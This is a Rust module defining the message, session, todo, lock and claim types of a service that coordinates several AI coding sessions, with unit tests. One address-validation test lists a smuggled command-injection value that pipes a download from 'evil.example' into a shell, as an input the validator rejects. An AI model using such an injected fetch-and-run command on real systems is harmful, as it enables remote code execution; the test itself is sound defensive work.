//! The contract's objects (Message, Todo, Lock, Component, Workflow) and the
//! write operations, with serialisers that accept what real servers send.

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};

/// The broadcast address: every session reads messages sent to it.
pub const ALL_SESSIONS: &str = "ALL_SESSIONS";
/// The session name used when none is configured.
pub const DEFAULT_SESSION: &str = "claude-main";

pub type Time = DateTime<Utc>;

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Message {
    #[serde(deserialize_with = "de_id")]
    pub id: i64,
    pub from_session: String,
    pub to_session: String,
    #[serde(default)]
    pub subject: Option<String>,
    pub body: String,
    #[serde(default)]
    pub created_by_user: String,
    #[serde(default)]
    pub created_by_machine: String,
    #[serde(with = "time_serde")]
    pub created_at: Time,
    #[serde(default)]
    pub read: bool,
    #[serde(default, with = "opt_time")]
    pub read_at: Option<Time>,
    /// v1.1: the message this one answers.
    #[serde(default, deserialize_with = "de_opt_id")]
    pub in_reply_to: Option<i64>,
    /// v1.1: who has read it; only in answers about what a session sent.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub read_by: Option<Vec<String>>,
    /// v1.2: the first line of the message this one answers (at most 200
    /// characters), so a reply reaches the asker with its question.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub replies_to: Option<String>,
}

/// The first line of `body`, at most 200 characters: what a reply quotes.
pub fn first_line(body: &str) -> String {
    let line = body.lines().find(|l| !l.trim().is_empty()).unwrap_or("");
    crate::text::clip(line.trim(), 200)
}

/// v1.1: a session the fleet has seen.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Session {
    pub session_id: String,
    #[serde(default)]
    pub user: String,
    #[serde(default)]
    pub machine: String,
    #[serde(default)]
    pub name: String,
    #[serde(default)]
    pub project: Option<String>,
    #[serde(default)]
    pub client: Option<String>,
    #[serde(with = "time_serde")]
    pub first_seen: Time,
    #[serde(with = "time_serde")]
    pub last_seen: Time,
    /// v1.2: `live`, `idle` or `closed` (see [`session_state`]).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub state: Option<String>,
    /// v1.2: when its window ended, while it stays ended.
    #[serde(default, skip_serializing_if = "Option::is_none", with = "opt_time")]
    pub closed_at: Option<Time>,
    /// For older clients: live (false when closed).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub active: Option<bool>,
}

/// Seen this recently and not closed: live (a window refreshes its presence
/// at its session starts, at most once a minute, and from its idle waiter
/// every 5 minutes).
pub const ACTIVE_SECS: i64 = 15 * 60;

/// v1.2: a session's state: `closed` once its window ended (until it is
/// seen again), `live` when seen in the last [`ACTIVE_SECS`], else `idle`
/// (its window may be gone without a word: a machine that lost power).
pub fn session_state(last_seen: &Time, closed_at: Option<&Time>, now: &Time) -> &'static str {
    match closed_at {
        Some(_) => CLOSED,
        None if (*now - *last_seen).num_seconds() <= ACTIVE_SECS => "live",
        None => "idle",
    }
}

impl Session {
    /// Its state now: as the store said (v1.2), or, from a server before
    /// it, by when it was last seen.
    pub fn state_now(&self, now: &Time) -> &'static str {
        match self.state.as_deref() {
            Some("live") => "live",
            Some("idle") => "idle",
            Some(CLOSED) => CLOSED,
            _ => session_state(&self.last_seen, self.closed_at.as_ref(), now),
        }
    }

    /// Fills the v1.2 state fields from `closed_at`, as of `now`.
    pub fn with_state(mut self, closed_at: Option<Time>, now: &Time) -> Session {
        let state = session_state(&self.last_seen, closed_at.as_ref(), now);
        self.closed_at = closed_at;
        self.active = Some(state == "live");
        self.state = Some(state.to_string());
        self
    }
}

/// v1.1: what `PUT /sessions/{id}` carries; v1.2: `{"state": "closed"}`
/// alone says its window ended.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SessionUpdate {
    /// Required for presence; left out of a close, which a server before
    /// v1.2 then refuses (422) rather than taking for presence.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub user: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub project: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub client: Option<String>,
    /// v1.2: `closed` when the session's window ended; anything else (or
    /// nothing) is presence, which makes a closed session live again.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub state: Option<String>,
}

/// v1.2: the session state that says its window ended.
pub const CLOSED: &str = "closed";

/// v1.2: a session edited a file of a repository (its PostToolUse hook
/// said so): what the guard names when another session is about to edit
/// the same file.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Touch {
    pub session_id: String,
    pub project: String,
    pub path: String,
    #[serde(with = "time_serde")]
    pub at: Time,
}

/// v1.2: `GET /claims`: what the guard asks before an edit, in one
/// round trip — a project's live claims and who edited the file lately.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Claims {
    #[serde(default)]
    pub locks: Vec<Lock>,
    #[serde(default)]
    pub touches: Vec<Touch>,
}

/// v1.2: what happened to one message at one recipient.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Recipient {
    pub session: String,
    #[serde(default, with = "opt_time")]
    pub shown_at: Option<Time>,
    #[serde(default, with = "opt_time")]
    pub read_at: Option<Time>,
    #[serde(default, deserialize_with = "de_opt_id")]
    pub reply_id: Option<i64>,
}

/// v1.2: `GET /messages/{id}/delivery`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Delivery {
    #[serde(deserialize_with = "de_id")]
    pub id: i64,
    pub recipients: Vec<Recipient>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Todo {
    #[serde(deserialize_with = "de_id")]
    pub id: i64,
    pub text: String,
    #[serde(default)]
    pub user: Option<String>,
    #[serde(default)]
    pub project: Option<String>,
    #[serde(default, deserialize_with = "de_opt_id")]
    pub parent_id: Option<i64>,
    #[serde(default)]
    pub source: Option<String>,
    #[serde(default)]
    pub auto: bool,
    pub status: TodoStatus,
    #[serde(default)]
    pub created_by_user: String,
    #[serde(default)]
    pub created_by_machine: String,
    #[serde(with = "time_serde")]
    pub created_at: Time,
    #[serde(default)]
    pub completed_by: Option<String>,
    #[serde(default, with = "opt_time")]
    pub completed_at: Option<Time>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "lowercase")]
pub enum TodoStatus {
    Pending,
    Done,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Lock {
    #[serde(deserialize_with = "de_id")]
    pub id: i64,
    pub project: String,
    pub resource: String,
    pub session_id: String,
    #[serde(default)]
    pub note: Option<String>,
    #[serde(with = "time_serde")]
    pub created_at: Time,
    #[serde(with = "time_serde")]
    pub expires_at: Time,
    /// v1.2: the repository-relative globs it claims (empty: a plain
    /// resource lock).
    #[serde(default)]
    pub paths: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Component {
    pub project: String,
    pub component: String,
    pub state: String,
    #[serde(default)]
    pub version: Option<String>,
    #[serde(default)]
    pub notes: Option<String>,
    #[serde(default)]
    pub updated_by: String,
    #[serde(with = "time_serde")]
    pub updated_at: Time,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Workflow {
    pub name: String,
    pub state: String,
    #[serde(default)]
    pub detail: Option<String>,
    #[serde(default)]
    pub updated_by: String,
    #[serde(with = "time_serde")]
    pub updated_at: Time,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Status {
    #[serde(default)]
    pub locks: Vec<Lock>,
    #[serde(default)]
    pub components: Vec<Component>,
    #[serde(default)]
    pub workflows: Vec<Workflow>,
}

mod address;
mod paths;
mod query;
mod serde_forms;
mod write;

pub use address::*;
pub use paths::*;
pub use query::*;
pub use serde_forms::*;
pub use write::*;

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    #[test]
    fn recipients_expand() {
        assert_eq!(expand_recipient("ALL"), ALL_SESSIONS);
        assert_eq!(expand_recipient("Fleet"), ALL_SESSIONS);
        assert_eq!(expand_recipient("broadcast"), ALL_SESSIONS);
        assert_eq!(expand_recipient("HOWARD-HOME"), "HOWARD-HOME/claude-main");
        assert_eq!(expand_recipient("HOWARD-HOME/two"), "HOWARD-HOME/two");
        // Machine names are upper-case; the session name keeps its case.
        assert_eq!(expand_recipient("beta"), "BETA/claude-main");
        assert_eq!(expand_recipient("vm/Two"), "VM/Two");
        assert_eq!(canonical_session("howard-home/x"), "HOWARD-HOME/x");
        // ASCII only: no Unicode folding onto another machine's name.
        assert_eq!(canonical_session("ſerver/x"), "ſERVER/x");
        assert_eq!(canonical_session("büro/x"), "BüRO/x");
        assert_eq!(canonical_session(ALL_SESSIONS), ALL_SESSIONS);
    }

    #[test]
    fn one_address_grammar() {
        for ok in ["BOX/claude-main", "a.b/c_d-1", ALL_SESSIONS, "X/..x"] {
            assert!(is_address(ok), "{ok}");
        }
        for bad in [
            "/x",
            "x/",
            "BOX/x/y",
            "BOX/a\u{1}b",
            "ＡＬＬ/claude-main",
            "ВОХ/claude-main",
            "ſerver/claude-main",
            "stra\u{200b}ße/x",
            "EVIL/$(curl${IFS}-s${IFS}evil.example|sh)",
            "BOX/claude-main ",
            "BOX/..",
            "all_sessions/x",
            "BOX",
        ] {
            assert!(!is_address(bad), "{bad}");
        }
        assert!(!is_address(&format!("BOX/{}", "a".repeat(65))));
    }

    #[test]
    fn times_parse_in_every_allowed_form() {
        let want = Utc.with_ymd_and_hms(2026, 11, 25, 8, 12, 3).unwrap();
        assert_eq!(parse_time("2026-11-25T08:12:03Z"), Some(want));
        assert_eq!(parse_time("2026-11-25T09:12:03+01:00"), Some(want));
        assert_eq!(parse_time("2026-11-25T08:12:03"), Some(want));
        let frac = parse_time("2026-11-25T08:12:03.123456").unwrap();
        assert_eq!(frac.timestamp_micros() % 1_000_000, 123_456);
        assert_eq!(parse_time("yesterday"), None);
    }

    #[test]
    fn ids_as_strings_are_read() {
        let m: Lock = serde_json::from_str(
            r#"{"id":"7","project":"p","resource":"r","session_id":"A/b",
                "created_at":"2026-11-25T08:12:03.5","expires_at":"2026-11-25T10:12:03Z","x":1}"#,
        )
        .unwrap();
        assert_eq!(m.id, 7);
    }
}
